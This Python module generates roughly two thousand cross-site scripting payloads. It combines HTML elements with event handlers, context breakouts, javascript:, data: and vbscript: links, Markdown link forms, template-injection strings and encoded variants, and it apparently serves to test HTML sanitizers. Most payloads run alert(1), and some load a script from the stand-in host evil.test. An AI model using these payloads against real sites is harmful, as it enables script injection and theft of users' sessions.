"""Two thousand texts that run a script where a page takes them for markup, made of the families of such attacks."""

from __future__ import annotations

from collections.abc import Iterator
from itertools import product
from urllib.parse import quote

_ATTACK = "alert(1)"
_HANDLERS = (
    "onload",
    "onerror",
    "onfocus",
    "onblur",
    "onclick",
    "onmouseover",
    "onmouseenter",
    "onpointerover",
    "onpointerrawupdate",
    "ontoggle",
    "onbeforetoggle",
    "onanimationstart",
    "onanimationend",
    "ontransitionend",
    "onbegin",
    "onend",
    "onrepeat",
    "onscroll",
    "onscrollend",
    "onwheel",
    "oncopy",
    "onpaste",
    "oninput",
    "onchange",
    "oninvalid",
    "onsubmit",
    "onreset",
    "onkeydown",
    "onresize",
    "onhashchange",
    "onpageshow",
    "onmessage",
    "onloadstart",
    "onloadeddata",
    "oncanplay",
    "onplay",
    "oncuechange",
    "onbeforematch",
    "oncontentvisibilityautostatechange",
    "onfinish",
    "onbounce",
    "onstart",
)
_ELEMENTS = (
    "img src=x",
    "svg",
    "body",
    "input autofocus",
    "select autofocus",
    "textarea autofocus",
    "details open",
    "video src=x",
    "audio src=x",
    "iframe src=x",
    "object data=x",
    "embed src=x",
    "marquee",
    "form",
    "button popover",
    "a href=x",
    "style",
    "link rel=stylesheet href=x",
    "math",
    "x tabindex=1 contenteditable",
    "keygen autofocus",
    "svg><animate attributeName=x dur=1s",
    "svg><set attributeName=x",
    "video><source",
)
_BREAKOUTS = (
    "{}",
    '">{}',
    "'>{}",
    "`>{}",
    "-->{}",
    "]]>{}",
    "</script>{}",
    "</style>{}",
    "</title>{}",
    "</textarea>{}",
    "</noscript>{}",
    "</template>{}",
    "</select>{}",
    "</xmp>{}",
    "</iframe>{}",
    "<!--{}-->",
    "<![CDATA[{}]]>",
    "<svg><style>{}",
    "<math><mtext><table><mglyph><style>{}",
    '<noscript><p title="</noscript>{}">',
    "<template>{}</template>",
    "<svg><desc>{}",
    "<form><math><mtext></form><form><mglyph><style></math>{}",
)
_TAGS = (
    "<script>{}</script>",
    "<ScRiPt>{}</sCrIpT>",
    "<script/x>{}</script >",
    "<script\n>{}</script\n>",
    "<scr<script>ipt>{}</scr</script>ipt>",
    "<script src=//evil.test/x.js></script>",
    "<script>{}//",
    "<svg><script>{}</script></svg>",
    "<svg><script href=data:,{} />",
    "<math><script>{}</script></math>",
    "<img src=x onerror={}>",
    '<img src=x onerror="{}">',
    "<img/src=x/onerror={}>",
    "<svg/onload={}>",
    "<svg onload=&#97;lert(1)>",
    "<svg onload=\\u0061lert(1)>",
    "<body onload={}>",
    '<iframe srcdoc="<script>{}</script>">',
    "<iframe srcdoc='&lt;script&gt;{}&lt;/script&gt;'>",
    "<object data='data:text/html,<script>{}</script>'></object>",
    "<embed src='data:image/svg+xml,<svg xmlns=http://www.w3.org/2000/svg onload={}>'>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<base href='javascript:{}//'>",
    "<link rel=import href='data:text/html,<script>{}</script>'>",
    "<style>@import 'javascript:{}';</style>",
    "<style>*{{background:url(javascript:{})}}</style>",
    '<div style="width:expression({})">',
    "<form action='javascript:{}'><input type=submit>",
    "<button formaction='javascript:{}'>",
    "<isindex action='javascript:{}'>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload={}></svg>#x'/>",
    "<svg><a xlink:href='javascript:{}'><text y=9>x</text></a></svg>",
    "<svg><foreignObject><iframe onload={}></svg>",
    "<svg><image href=x onerror={} /></svg>",
    "<a href='javascript:{}'>x</a>",
    "<area href='javascript:{}'>",
)
_LINKS = (
    "javascript:{}",
    "JaVaScRiPt:{}",
    " javascript:{}",
    "java\tscript:{}",
    "java\nscript:{}",
    "javascript&colon;{}",
    "&#106;avascript:{}",
    "&#x6A;avascript:{}",
    "%6Aavascript:{}",
    "javascript://x%0A{}",
    "vbscript:{}",
    "data:text/html,<script>{}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "blob:http://evil.test/{}",
    "file:///etc/passwd#{}",
    "view-source:javascript:{}",
    "feed:javascript:{}",
    "jar:javascript:{}!/",
    "//evil.test/{}",
    "\\\\evil.test\\{}",
)
_LINK_PLACES = (
    "{}",
    "[x]({})",
    "![x]({})",
    "[x]: {}",
    "<{}>",
    "[x](<{}>)",
    "[x]({} 'title')",
    '<a href="{}">x</a>',
    "<a href={}>x</a>",
    "<img src='{}'>",
    "<iframe src='{}'></iframe>",
    "<svg><a href='{}'>x</a></svg>",
)
_TEMPLATES = (
    "${{{}}}",
    "{{{{{}}}}}",
    "{{{{constructor.constructor('{}')()}}}}",
    "<%= {} %>",
    "#{{{}}}",
    "{{%raw%}}{}{{%endraw%}}",
    "`${{{}}}`",
    "'+{}+'",
    '"+{}+"',
    "';{}//",
    '";{}//',
    "\\';{}//",
    "</script><script>{}</script>",
    "__proto__[x]={}",
    '{{"dangerouslySetInnerHTML":{{"__html":"<img src=x onerror={}>"}}}}',
    '{{"type":"script","props":{{"children":"{}"}}}}',
)


def script_corpus() -> list[str]:
    """Each text once, in the same order always."""
    return list(dict.fromkeys(_generate()))


def _generate() -> Iterator[str]:
    for element, handler in product(_ELEMENTS, _HANDLERS):
        yield f"<{element} {handler}={_ATTACK}>"
    scripts = [each.format(_ATTACK) for each in _TAGS]
    for breakout, script in product(_BREAKOUTS, scripts):
        yield breakout.format(script)
    for place, link in product(_LINK_PLACES, _LINKS):
        yield place.format(link.format(_ATTACK))
    for template in _TEMPLATES:
        yield template.format(_ATTACK)
    for script in scripts:  # encoded, for a page that decodes once too often
        yield quote(script)
        yield script.replace("<", "&lt;").replace(">", "&gt;")
        yield "".join(f"&#{ord(character)};" for character in script)
        yield script.replace("<", "\\u003c")
        yield script.replace("<", "\uff1c").replace(">", "\uff1e")
